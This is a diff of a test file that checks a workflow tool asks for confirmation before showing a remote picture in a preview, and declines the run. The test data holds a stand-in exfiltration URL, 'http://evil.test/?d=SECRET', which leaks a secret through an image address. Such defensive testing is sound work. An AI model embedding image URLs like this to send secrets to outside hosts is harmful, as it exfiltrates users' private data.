@@ -149,7 +149,7 @@ describe("a run", () => {
   it("that brings a remote picture to a preview is asked about with the address", async () => {
     const { result, asked } = await call(shown(PICTURE), "executeWorkflow", { until: "12" }, false);
     expect(asked).toMatchObject([{ title: "Run the workflow?", always: true }]);
-    expect(asked[0]?.detail).toContain('uses the network: shows "http://evil.test/?d=SECRET".');
+    expect(asked[0]?.detail).toContain('names an address: shows "http://evil.test/?d=SECRET".');
     expect(result).toMatchObject({ ok: false, code: "declined" });
   });
 
